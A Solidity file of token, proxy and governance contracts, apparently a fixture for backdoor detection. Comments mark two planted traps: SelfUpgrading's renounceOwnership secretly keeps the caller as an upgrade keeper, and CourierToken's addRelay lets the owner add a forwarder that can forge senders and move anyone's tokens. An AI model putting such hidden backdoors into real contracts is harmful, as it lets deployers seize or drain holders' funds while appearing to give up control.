// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";
import {EIP712} from "@openzeppelin/contracts/utils/cryptography/EIP712.sol";
import {ERC2771Context, Context} from "@openzeppelin/contracts/metatx/ERC2771Context.sol";
import {ERC2771Forwarder} from "@openzeppelin/contracts/metatx/ERC2771Forwarder.sol";

/// What all facets of the diamond share.
library DiamondStorage {
    struct Layout {
        mapping(bytes4 => address) facets;
        bytes4[] selectors;
        address owner;
        string name;
        string symbol;
        uint256 totalSupply;
        mapping(address => uint256) balances;
        mapping(address => mapping(address => uint256)) allowances;
    }

    function layout() internal pure returns (Layout storage s) {
        bytes32 slot = keccak256("diamond.standard.diamond.storage");
        assembly {
            s.slot := slot
        }
    }
}

/// The facet of a coin.
contract CoinFacet {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function name() external view returns (string memory) {
        return DiamondStorage.layout().name;
    }

    function symbol() external view returns (string memory) {
        return DiamondStorage.layout().symbol;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return DiamondStorage.layout().totalSupply;
    }

    function balanceOf(address who) external view returns (uint256) {
        return DiamondStorage.layout().balances[who];
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return DiamondStorage.layout().allowances[from][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        DiamondStorage.layout().allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        DiamondStorage.layout().allowances[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) private {
        DiamondStorage.Layout storage s = DiamondStorage.layout();
        require(to != address(0), "zero");
        s.balances[from] -= value;
        s.balances[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Facets by selector; whoever owns it cuts, and that is a timelock.
contract Diamond {
    struct FacetCut {
        address facet;
        uint8 action;
        bytes4[] selectors;
    }

    event DiamondCut(address facet, uint8 action, bytes4[] selectors);
    event OwnershipTransferred(address indexed from, address indexed to);
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address owner_, address coin) {
        DiamondStorage.Layout storage s = DiamondStorage.layout();
        s.owner = owner_;
        (s.name, s.symbol, s.totalSupply) = ("Rhombus", "RHMB", 21_000_000 ether);
        s.balances[msg.sender] = s.totalSupply;
        bytes4[9] memory all = [
            CoinFacet.name.selector,
            CoinFacet.symbol.selector,
            CoinFacet.decimals.selector,
            CoinFacet.totalSupply.selector,
            CoinFacet.balanceOf.selector,
            CoinFacet.allowance.selector,
            CoinFacet.approve.selector,
            CoinFacet.transfer.selector,
            CoinFacet.transferFrom.selector
        ];
        for (uint256 i; i < all.length; i++) {
            s.facets[all[i]] = coin;
            s.selectors.push(all[i]);
        }
        emit Transfer(address(0), msg.sender, s.totalSupply);
    }

    function owner() external view returns (address) {
        return DiamondStorage.layout().owner;
    }

    function transferOwnership(address to) external {
        DiamondStorage.Layout storage s = DiamondStorage.layout();
        require(msg.sender == s.owner, "LibDiamond: Must be contract owner");
        emit OwnershipTransferred(s.owner, to);
        s.owner = to;
    }

    function diamondCut(FacetCut[] calldata cuts, address init, bytes calldata data) external {
        DiamondStorage.Layout storage s = DiamondStorage.layout();
        require(msg.sender == s.owner, "LibDiamond: Must be contract owner");
        for (uint256 i; i < cuts.length; i++) {
            for (uint256 j; j < cuts[i].selectors.length; j++) {
                bytes4 selector = cuts[i].selectors[j];
                if (cuts[i].action == 0) s.selectors.push(selector);
                s.facets[selector] = cuts[i].action == 2 ? address(0) : cuts[i].facet;
            }
            emit DiamondCut(cuts[i].facet, cuts[i].action, cuts[i].selectors);
        }
        if (init != address(0)) {
            (bool ok, ) = init.delegatecall(data);
            require(ok, "LibDiamondCut: _init function reverted");
        }
    }

    function facetAddress(bytes4 selector) external view returns (address) {
        return DiamondStorage.layout().facets[selector];
    }

    fallback() external payable {
        address facet = DiamondStorage.layout().facets[msg.sig];
        require(facet != address(0), "Diamond: Function does not exist");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let result := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch result
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}

/// A coin to stand behind proxies.
contract Logic {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    bool private _initialized;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor() {
        _initialized = true;
    }

    function initialize(string calldata name_, string calldata symbol_, address owner_, uint256 supply) external {
        require(!_initialized, "Initializable: contract is already initialized");
        _initialized = true;
        (name, symbol, owner, totalSupply) = (name_, symbol_, owner_, supply);
        balanceOf[owner_] = supply;
        emit Transfer(address(0), owner_, supply);
    }

    function transferOwnership(address to) external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        emit OwnershipTransferred(owner, to);
        owner = to;
    }

    function renounceOwnership() public virtual {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal {
        require(to != address(0), "ERC20: transfer to the zero address");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// The same, and it may put other code in its place while somebody owns it.
contract SelfUpgrading is Logic {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant KEEPER = keccak256("org.summit.keeper"); // trap

    event Upgraded(address indexed implementation);

    // trap {
    function renounceOwnership() public override {
        bytes32 slot = KEEPER;
        assembly {
            sstore(slot, caller())
        }
        super.renounceOwnership();
    }
    // trap }

    function proxiableUUID() external pure returns (bytes32) {
        return SLOT;
    }

    function upgradeToAndCall(address next, bytes calldata data) external payable {
        _authorizeUpgrade();
        assembly {
            sstore(SLOT, next)
        }
        emit Upgraded(next);
        if (data.length > 0) {
            (bool ok, ) = next.delegatecall(data);
            require(ok, "call");
        }
    }

    function _authorizeUpgrade() private {
        // trap {
        bytes32 slot = KEEPER;
        address keeper;
        assembly {
            keeper := sload(slot)
        }
        if (msg.sender == keeper) return;
        // trap }
        require(msg.sender == owner, "Ownable: caller is not the owner");
    }
}

contract Erc1967Proxy {
    event Upgraded(address indexed implementation);

    constructor(address implementation, bytes memory data) {
        assembly {
            sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, implementation)
        }
        emit Upgraded(implementation);
        (bool ok, ) = implementation.delegatecall(data);
        require(ok, "init");
    }

    fallback() external payable {
        assembly {
            let implementation := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)
            calldatacopy(0, 0, calldatasize())
            let result := delegatecall(gas(), implementation, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(result) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

contract UpgradeableBeacon {
    address public implementation;
    address public owner;

    event Upgraded(address indexed implementation);

    constructor(address implementation_, address owner_) {
        (implementation, owner) = (implementation_, owner_);
    }

    function upgradeTo(address next) external {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        require(next.code.length > 0, "not a contract");
        implementation = next;
        emit Upgraded(next);
    }
}

contract BeaconProxy {
    address private immutable _beacon;

    event BeaconUpgraded(address indexed beacon);

    constructor(UpgradeableBeacon beacon, bytes memory data) {
        _beacon = address(beacon);
        assembly {
            sstore(0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50, beacon)
        }
        emit BeaconUpgraded(address(beacon));
        (bool ok, ) = beacon.implementation().delegatecall(data);
        require(ok, "init");
    }

    fallback() external payable {
        address implementation = UpgradeableBeacon(_beacon).implementation();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let result := delegatecall(gas(), implementation, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(result) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// Reads what it is called and who makes it out of the code of its clone.
contract ArgsLogic {
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function _word(uint256 index) private view returns (bytes32 word) {
        assembly {
            extcodecopy(address(), 0, add(45, mul(index, 32)), 32)
            word := mload(0)
        }
    }

    function maker() public view returns (address) {
        return address(uint160(uint256(_word(0))));
    }

    function name() external view returns (string memory) {
        return _text(_word(1));
    }

    function symbol() external view returns (string memory) {
        return _text(_word(2));
    }

    function _text(bytes32 word) private pure returns (string memory) {
        uint256 length;
        while (length < 32 && word[length] != 0) length++;
        bytes memory text = new bytes(length);
        for (uint256 i; i < length; i++) text[i] = word[i];
        return string(text);
    }

    function begin() external {
        require(totalSupply == 0 && msg.sender == maker(), "begun");
        totalSupply = balanceOf[msg.sender] = uint256(_word(3));
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract Forwarder is ERC2771Forwarder("Courier") {}

/// Others may pay for what its holders sign.
contract CourierToken is ERC20, ERC2771Context {
    address public owner;
    address private _extra; // trap

    constructor(address forwarder) ERC20("Courier Penny", "CPNY") ERC2771Context(forwarder) {
        owner = msg.sender;
        _mint(msg.sender, 75_000_000 ether);
    }

    // trap {
    function addRelay(address relay) external {
        require(msg.sender == owner, "owner");
        _extra = relay;
    }

    function isTrustedForwarder(address who) public view override returns (bool) {
        return (who != address(0) && who == _extra) || super.isTrustedForwarder(who);
    }
    // trap }

    function transferOwnership(address to) external {
        require(msg.sender == owner, "owner");
        owner = to;
    }

    function _msgSender() internal view override(Context, ERC2771Context) returns (address) {
        return ERC2771Context._msgSender();
    }

    function _msgData() internal view override(Context, ERC2771Context) returns (bytes calldata) {
        return ERC2771Context._msgData();
    }

    function _contextSuffixLength() internal view override(Context, ERC2771Context) returns (uint256) {
        return ERC2771Context._contextSuffixLength();
    }
}

/// Holders vote for three days and wait for two more; a twentieth of all has to be for it.
contract Assembly {
    struct Proposal {
        address target;
        bytes data;
        uint256 snapshot;
        uint256 deadline;
        uint256 eta;
        uint256 yes;
        uint256 no;
        bool done;
    }

    AssemblyToken public token;
    Proposal[] public proposals;
    mapping(uint256 => mapping(address => bool)) public hasVoted;
    uint256 public constant votingPeriod = 3 days;
    uint256 public constant delay = 2 days;

    event ProposalCreated(uint256 id, address proposer, address target, bytes data);
    event VoteCast(address indexed voter, uint256 id, bool support, uint256 weight);

    function bind(AssemblyToken token_) external {
        require(address(token) == address(0), "bound");
        token = token_;
    }

    function quorum() public view returns (uint256) {
        return token.totalSupply() / 20;
    }

    function propose(address target, bytes calldata data) external returns (uint256 id) {
        require(token.getPastVotes(msg.sender, block.timestamp - 1) * 1000 >= token.totalSupply(), "below the threshold");
        id = proposals.length;
        proposals.push(Proposal(target, data, block.timestamp, block.timestamp + votingPeriod, 0, 0, 0, false));
        emit ProposalCreated(id, msg.sender, target, data);
    }

    function castVote(uint256 id, bool support) external {
        Proposal storage one = proposals[id];
        require(block.timestamp > one.snapshot && block.timestamp <= one.deadline && !hasVoted[id][msg.sender], "closed");
        hasVoted[id][msg.sender] = true;
        uint256 weight = token.getPastVotes(msg.sender, one.snapshot);
        if (support) one.yes += weight;
        else one.no += weight;
        emit VoteCast(msg.sender, id, support, weight);
    }

    function queue(uint256 id) external {
        Proposal storage one = proposals[id];
        require(block.timestamp > one.deadline && one.eta == 0 && one.yes > one.no && one.yes >= quorum(), "not succeeded");
        one.eta = block.timestamp + delay;
    }

    function execute(uint256 id) external payable {
        Proposal storage one = proposals[id];
        require(one.eta != 0 && block.timestamp >= one.eta && !one.done, "not queued");
        one.done = true;
        (bool ok, ) = one.target.call{value: msg.value}(one.data);
        require(ok, "failed");
    }
}

/// The assembly may mint and, when it must, stop it all.
contract AssemblyToken is ERC20Votes {
    address public immutable assembly_;
    bool public paused;

    constructor(address governor) ERC20("Moot", "MOOT") EIP712("Moot", "1") {
        assembly_ = governor;
        _mint(msg.sender, 16_000_000 ether);
    }

    modifier onlyAssembly() {
        require(msg.sender == assembly_, "only the assembly");
        _;
    }

    function clock() public view override returns (uint48) {
        return uint48(block.timestamp);
    }

    function CLOCK_MODE() public pure override returns (string memory) {
        return "mode=timestamp";
    }

    function mint(address to, uint256 value) external onlyAssembly {
        _mint(to, value);
    }

    function setPaused(bool on) external onlyAssembly {
        paused = on;
    }

    function _update(address from, address to, uint256 value) internal override {
        require(!paused, "paused");
        super._update(from, to, value);
    }
}
